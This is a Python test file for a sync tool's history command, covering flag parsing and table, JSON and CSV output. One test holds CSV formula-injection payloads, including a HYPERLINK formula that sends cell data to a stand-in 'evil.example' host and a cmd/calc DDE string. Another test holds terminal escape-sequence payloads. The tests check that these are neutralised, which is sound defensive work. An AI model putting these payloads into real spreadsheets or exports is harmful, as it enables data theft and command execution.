"""The pure parts of `syncd history`: parsing its flags, turning operations into rows, and writing those rows
as a table, JSON and CSV (parsed back here the way a script would)."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime
from typing import Any

import pytest

from syncd.cli.main import build_parser
from syncd.core.model import Action, AgentFields, Outcome
from syncd.reports.history import (
    COLUMNS,
    DEFAULT_TABLE_LIMIT,
    changed_fields,
    changed_text,
    effective_limit,
    history_row,
    merge_choices,
    parse_actions,
    parse_limit,
    parse_outcomes,
    parse_since,
    prune_due,
    table_lines,
    user_lookups,
    write_csv,
    write_json,
    write_table,
)
from syncd.store import HistoryEntry, OperationRecord

NOW = datetime(2026, 11, 27, 12, 0, tzinfo=UTC).timestamp()
TENANT = "8c0a6f64-0e7d-4b1e-9a55-4d0c8bb6a1f0"
GUID = "6f9619ff-8b86-d011-b42d-00c04fc964ff"
ALICE = AgentFields(TENANT, "+14155550100", "alice@contoso.com", GUID)
ALICE_MOVED = AgentFields(TENANT, "+14155550199", "alice.smith@contoso.com", GUID)
NO_UPN = AgentFields(TENANT, "+14155550123", None, None)


def entry(
    action: Action,
    desired: AgentFields | None,
    believed: AgentFields | None,
    *,
    outcome: Outcome = Outcome.OK,
    member_upn: str | None = None,
    error: str | None = None,
    http_status: int | None = 200,
    op_id: int = 7,
) -> HistoryEntry:
    operation = OperationRecord(
        id=op_id,
        run_id=3,
        object_id="4d90f551-8568-4935-821b-8cb9fa50ecd7",
        action=action,
        outcome=outcome,
        http_status=http_status,
        error=error,
        desired=desired,
        believed=believed,
        created_at=NOW - 30.4,
        settled_at=NOW - 30,
    )
    return HistoryEntry(operation, member_upn)


# parsing the flags


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("7d", NOW - 7 * 86_400),
        ("12h", NOW - 12 * 3_600),
        ("90m", NOW - 90 * 60),
        (" 1h30m ", NOW - 5_400),
        ("2026-11-01", datetime(2026, 11, 1, tzinfo=UTC).timestamp()),
        ("2026-11-01T08:00", datetime(2026, 11, 1, 8, tzinfo=UTC).timestamp()),
        ("2026-11-01 08:00:30", datetime(2026, 11, 1, 8, 0, 30, tzinfo=UTC).timestamp()),
        ("2026-11-01T08:00Z", datetime(2026, 11, 1, 8, tzinfo=UTC).timestamp()),
        ("2026-11-01T08:00+02:00", datetime(2026, 11, 1, 6, tzinfo=UTC).timestamp()),
    ],
)
def test_since_is_a_duration_back_from_now_or_an_iso_time_in_utc(text: str, expected: float) -> None:
    assert parse_since(text, NOW) == expected


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("7", "'7' needs a unit"),
        ("", "'' is not a duration"),
        ("yesterday", "'yesterday' is not a duration"),
        ("-1d", "'-1d' is not a duration"),
        ("2026-13-01", "'2026-13-01' is not a duration"),
        ("7 days", "or an ISO date"),
    ],
)
def test_a_bad_since_says_what_is_accepted(text: str, message: str) -> None:
    with pytest.raises(ValueError, match=message):
        parse_since(text, NOW)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (
            "10000000d",
            "'10000000d' reaches back before 1970-01-01: give a duration of at most 20784d or a date",
        ),
        (f"{20_784 * 24 + 13}h", "reaches back before 1970-01-01"),
        ("99999999999999999999d", "reaches back before 1970-01-01"),
        ("1969-12-31T23:59:59", "reaches back before 1970-01-01"),
        ("0001-01-01", "reaches back before 1970-01-01"),
        ("0001-01-01T00:00+01:00", "reaches back before 1970-01-01"),  # before year 1 in UTC
        ("9999-12-31T23:59:59-14:00", "is after 9999-12-31: give a date up to 9999-12-31"),
    ],
)
def test_a_since_outside_what_a_datetime_holds_is_refused(text: str, message: str) -> None:
    with pytest.raises(ValueError, match=re.escape(message)):
        parse_since(text, NOW)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("1970-01-01", 0.0),
        ("20784d", NOW - 20_784 * 86_400),
        ("9999-12-31T23:59:59", datetime(9999, 12, 31, 23, 59, 59, tzinfo=UTC).timestamp()),
    ],
)
def test_a_since_at_the_edges_is_accepted(text: str, expected: float) -> None:
    assert parse_since(text, NOW) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("onboard", {Action.ONBOARD}),
        ("onboard,UPDATE", {Action.ONBOARD, Action.UPDATE}),
        (" offboard , ,", {Action.OFFBOARD}),
        ("update,update", {Action.UPDATE}),
    ],
)
def test_actions_are_comma_separated_in_any_case(text: str, expected: set[Action]) -> None:
    assert parse_actions(text) == expected


def test_outcomes_accept_every_outcome_value() -> None:
    everything = ",".join(outcome.value for outcome in Outcome)
    assert parse_outcomes(everything) == set(Outcome)
    assert parse_outcomes("already_gone,Failed") == {Outcome.ALREADY_GONE, Outcome.FAILED}


@pytest.mark.parametrize(
    ("parse", "text", "message"),
    [
        (
            parse_actions,
            "onboard,delete",
            r"unknown action 'delete' \(choose from onboard, update, offboard, relink\)",
        ),
        (parse_actions, " , ", r"no action given \(choose from onboard, update, offboard, relink\)"),
        (
            parse_outcomes,
            "gone",
            r"unknown outcome 'gone' \(choose from pending, ok, adopted, already_gone, failed, skipped\)",
        ),
    ],
)
def test_unknown_choices_are_named_with_the_valid_ones(parse: Any, text: str, message: str) -> None:
    with pytest.raises(ValueError, match=message):
        parse(text)


def test_repeated_flags_merge_and_an_absent_flag_filters_nothing() -> None:
    assert merge_choices([frozenset({Action.ONBOARD}), frozenset({Action.UPDATE})]) == frozenset(
        {Action.ONBOARD, Action.UPDATE}
    )
    assert merge_choices(None) is None


@pytest.mark.parametrize(
    ("text", "expected"), [("0", 0), ("25", 25), (" 3 ", 3), ("1000000000", 1_000_000_000)]
)
def test_limit_is_a_whole_number(text: str, expected: int) -> None:
    assert parse_limit(text) == expected


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("-1", "negative"),
        ("ten", "not a whole number"),
        ("", "not"),
        ("1000000001", "'1000000001' is above the maximum of 1,000,000,000 rows (0: no limit)"),
        ("99999999999999999999", "above the maximum of 1,000,000,000 rows"),  # over SQLite's 64-bit LIMIT
        ("9" * 5_000, "above the maximum"),  # more digits than int() reads
    ],
)
def test_a_bad_limit_is_refused(text: str, message: str) -> None:
    with pytest.raises(ValueError, match=re.escape(message)):
        parse_limit(text)


@pytest.mark.parametrize(
    ("limit", "output_format", "expected"),
    [
        (None, "table", DEFAULT_TABLE_LIMIT),
        (None, "json", None),
        (None, "csv", None),
        (0, "table", None),
        (5, "csv", 5),
    ],
)
def test_the_default_limit_depends_on_the_format(
    limit: int | None, output_format: str, expected: int | None
) -> None:
    assert effective_limit(limit, output_format) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("alice@contoso.com", ["alice@contoso.com"]),
        (" +14155550100 ", ["+14155550100"]),
        ("+1 (415) 555-0100", ["+1 (415) 555-0100", "+14155550100"]),
        ("+44 20.7183.8750", ["+44 20.7183.8750", "+442071838750"]),
    ],
)
def test_a_user_is_looked_up_as_given_and_a_spaced_number_also_compact(
    text: str, expected: list[str]
) -> None:
    assert user_lookups(text) == expected


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["--action", "onboard", "--action", "delete"], "argument --action: unknown action 'delete'"),
        (["--outcome", "gone"], "argument --outcome: unknown outcome 'gone' (choose from pending, ok,"),
        (["--since", "last week"], "argument --since: 'last week' is not a duration"),
        (["--limit", "-5"], "argument --limit: '-5' is negative"),
        (["--since", "10000000d"], "argument --since: '10000000d' reaches back before 1970-01-01"),
        (
            ["--limit", "99999999999999999999"],
            "argument --limit: '99999999999999999999' is above the maximum",
        ),
        (["--format", "xml"], "argument --format: invalid choice: 'xml'"),
    ],
)
def test_bad_flags_exit_2_naming_the_flag(
    argv: list[str], message: str, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as stopped:
        build_parser().parse_args(["history", *argv])
    assert stopped.value.code == 2
    assert message in capsys.readouterr().err


def test_good_flags_parse_to_filters() -> None:
    args = build_parser().parse_args(
        [
            "history",
            "--user",
            "alice@contoso.com",
            "--action",
            "onboard,update",
            "--outcome",
            "failed",
            "--limit",
            "0",
        ]
    )
    assert (args.user, args.format, args.limit, args.since) == ("alice@contoso.com", "table", 0, None)
    assert merge_choices(args.actions) == frozenset({Action.ONBOARD, Action.UPDATE})
    assert merge_choices(args.outcomes) == frozenset({Outcome.FAILED})


# rows


def test_changed_fields_are_what_differs_between_believed_and_desired() -> None:
    assert changed_fields(ALICE_MOVED, ALICE) == {
        "phone_number": {"from": "+14155550100", "to": "+14155550199"},
        "upn": {"from": "alice@contoso.com", "to": "alice.smith@contoso.com"},
    }
    assert changed_fields(ALICE, ALICE) == {}
    assert changed_fields(ALICE, None) == {}
    assert changed_fields(NO_UPN, AgentFields(TENANT, NO_UPN.phone_number, None, GUID)) == {
        "consistency_id": {"from": GUID, "to": None}
    }
    assert (
        changed_text(changed_fields(ALICE_MOVED, ALICE))
        == "phone_number: +14155550100 -> +14155550199; upn: alice@contoso.com -> alice.smith@contoso.com"
    )
    assert changed_text(None) == ""


def test_an_update_row_has_the_new_values_and_the_changes() -> None:
    row = history_row(entry(Action.UPDATE, ALICE_MOVED, ALICE, member_upn="someone.else@contoso.com"))
    assert list(row) == list(COLUMNS)
    assert row == {
        "id": 7,
        "time": "2026-11-27T11:59:29Z",
        "action": "update",
        "outcome": "ok",
        "object_id": "4d90f551-8568-4935-821b-8cb9fa50ecd7",
        "upn": "alice.smith@contoso.com",
        "phone_number": "+14155550199",
        "changed": {
            "phone_number": {"from": "+14155550100", "to": "+14155550199"},
            "upn": {"from": "alice@contoso.com", "to": "alice.smith@contoso.com"},
        },
        "http_status": 200,
        "error": None,
        "run_id": 3,
    }


@pytest.mark.parametrize(
    ("history", "upn", "phone"),
    [
        (entry(Action.ONBOARD, ALICE, None, member_upn="x@contoso.com"), "alice@contoso.com", "+14155550100"),
        (
            entry(Action.OFFBOARD, None, ALICE, member_upn="x@contoso.com"),
            "alice@contoso.com",
            "+14155550100",
        ),
        (
            entry(Action.OFFBOARD, None, NO_UPN, member_upn="last.seen@contoso.com"),
            "last.seen@contoso.com",
            NO_UPN.phone_number,
        ),
        (entry(Action.OFFBOARD, None, None), None, None),
    ],
)
def test_upn_and_number_come_from_the_operation_else_the_member(
    history: HistoryEntry, upn: str | None, phone: str | None
) -> None:
    row = history_row(history)
    assert (row["upn"], row["phone_number"], row["changed"]) == (upn, phone, None)


# writers

FAILURE = (
    'TN is already registered with a different Azure Object ID, "x", see\nhttps://example.com/why?' + "." * 80
)


def sample_rows() -> list[dict[str, Any]]:
    return [
        history_row(entry(Action.UPDATE, ALICE_MOVED, ALICE, op_id=9)),
        history_row(
            entry(
                Action.ONBOARD,
                NO_UPN,
                None,
                outcome=Outcome.FAILED,
                error=FAILURE,
                http_status=400,
                member_upn="bob@contoso.com",
                op_id=8,
            )
        ),
        history_row(entry(Action.OFFBOARD, None, ALICE, outcome=Outcome.PENDING, http_status=None, op_id=7)),
    ]


def test_json_is_one_array_of_rows_with_stable_keys() -> None:
    out = io.StringIO()
    assert write_json(iter(sample_rows()), out) == 3
    document = json.loads(out.getvalue())
    assert document == sample_rows()
    assert [list(row) for row in document] == [list(COLUMNS)] * 3
    assert len(out.getvalue().splitlines()) == 5  # "[", a line per row, "]"
    empty = io.StringIO()
    assert write_json(iter([]), empty) == 0
    assert json.loads(empty.getvalue()) == []


def test_csv_has_a_header_crlf_lines_and_the_full_error_text() -> None:
    out = io.StringIO()
    assert write_csv(iter(sample_rows()), out) == 3
    text = out.getvalue()
    assert text.startswith(",".join(COLUMNS) + "\r\n")
    records = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [record["id"] for record in records] == ["9", "8", "7"]
    update, failure, pending = records
    assert update["changed"] == (
        "phone_number: +14155550100 -> +14155550199; upn: alice@contoso.com -> alice.smith@contoso.com"
    )
    assert (update["time"], update["http_status"], update["error"], update["run_id"]) == (
        "2026-11-27T11:59:29Z",
        "200",
        "",
        "3",
    )
    assert failure["error"] == FAILURE  # commas, quotes and a newline survive
    assert (failure["upn"], failure["phone_number"], failure["changed"]) == (
        "bob@contoso.com",
        "+14155550123",
        "",
    )
    assert (pending["outcome"], pending["http_status"]) == ("pending", "")
    empty = io.StringIO()
    assert write_csv(iter([]), empty) == 0
    assert empty.getvalue() == ",".join(COLUMNS) + "\r\n"


@pytest.mark.parametrize(
    ("upn", "cell"),
    [
        (
            '=HYPERLINK("https://evil.example/?"&A1,"x")@contoso.com',
            """'=HYPERLINK("https://evil.example/?"&A1,"x")@contoso.com""",
        ),
        ("+cmd|' /C calc'!A0@contoso.com", "'+cmd|' /C calc'!A0@contoso.com"),
        ("-1+1@contoso.com", "'-1+1@contoso.com"),
        ("@SUM(A1)@contoso.com", "'@SUM(A1)@contoso.com"),
        ("\t=1@contoso.com", "'\t=1@contoso.com"),
        ("\r=1@contoso.com", "'\r=1@contoso.com"),
        ("ada@contoso.com", "ada@contoso.com"),
    ],
)
def test_csv_cells_a_spreadsheet_would_run_get_a_leading_quote(upn: str, cell: str) -> None:
    row = history_row(
        entry(Action.ONBOARD, AgentFields(TENANT, "+14155550100", upn, None), None, error="-1 ok")
    )
    out = io.StringIO()
    write_csv([row], out)
    [record] = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert record["upn"] == cell
    assert record["phone_number"] == "+14155550100"  # a plain E.164 number stays as it is
    assert record["error"] == "'-1 ok"
    assert json.loads(json.dumps(row))["upn"] == upn  # JSON stays exact


def test_the_table_shows_control_characters_from_remote_data_as_escapes() -> None:
    upn = "\x1b[31mevil\x1b[0m@contoso.com"
    row = history_row(
        entry(
            Action.ONBOARD,
            AgentFields(TENANT, "+14155550100", upn, None),
            None,
            error="refused \x1b]0;pwned\x07 \u202eexe.png",
        )
    )
    lines = list(table_lines([row]))
    text = "\n".join(lines)
    assert not {"\x1b", "\x07", "\u202e"} & set(text)
    assert "  \\x1b[31mevil\\x1b[0m@contoso.com  " in lines[1]
    assert "refused \\x1b]0;pwned\\x07 \\u202eexe.png" in lines[1]


def test_the_table_is_aligned_with_a_cut_one_line_error() -> None:
    out = io.StringIO()
    assert write_table(iter(sample_rows()), out) == 3
    header, *lines = out.getvalue().splitlines()
    headers = [
        "time (UTC)",
        "action",
        "outcome",
        "object ID",
        "UPN",
        "phone number",
        "changed",
        "HTTP",
        "error",
    ]
    assert re.split(r"\s{2,}", header) == [*headers, "run"]
    assert len(lines) == 3
    columns = [
        header.index(name) for name in ("action", "outcome", "object ID", "UPN", "phone number", "changed")
    ]
    for line in lines:
        assert all(line[start - 2 : start] == "  " and line[start] != " " for start in columns)
    update, failure, pending = lines
    assert update.startswith("2026-11-27 11:59:29  update  ")
    assert "  phone_number: +14155550100 -> +14155550199; upn: alice@co...  " in update  # cut at 60
    assert "  TN is already registered with a different Azure Object ID...  " in failure  # one line, cut
    assert {len(line) for line in lines} == {len(header)}  # the run column is right-aligned: all end together
    assert " bob@contoso.com " in failure
    assert "  pending  " in pending
    assert "  -  " in pending  # no HTTP status, no change


def test_an_empty_table_says_so() -> None:
    out = io.StringIO()
    assert write_table(iter([]), out) == 0
    assert out.getvalue() == "no operations match\n"
    assert list(table_lines([])) == []


def test_rows_after_the_sample_keep_the_sampled_widths() -> None:
    short = history_row(entry(Action.ONBOARD, AgentFields(TENANT, "+1415", "ab@contoso.com", None), None))
    long_upn = "a.very.long.user.principal.name.indeed@contoso.onmicrosoft.com"
    long = history_row(entry(Action.ONBOARD, AgentFields(TENANT, "+1415", long_upn, None), None))
    lines = list(table_lines([short] * 200 + [long]))
    assert len(lines) == 202
    assert len(lines[-1]) == len(lines[-2])
    assert long_upn not in lines[-1]
    assert "  a.very.long...  " in lines[-1]


# retention


@pytest.mark.parametrize(
    ("last", "due"),
    [
        (None, True),
        ("", True),
        ("not a number", True),
        (repr(NOW - 86_401), True),
        (repr(NOW - 86_399), False),
        (repr(NOW), False),
        (repr(NOW + 3_600), True),  # in the future: the clock was set back, do not trust it
    ],
)
def test_a_prune_is_due_once_a_day(last: str | None, due: bool) -> None:
    assert prune_due(last, NOW) is due
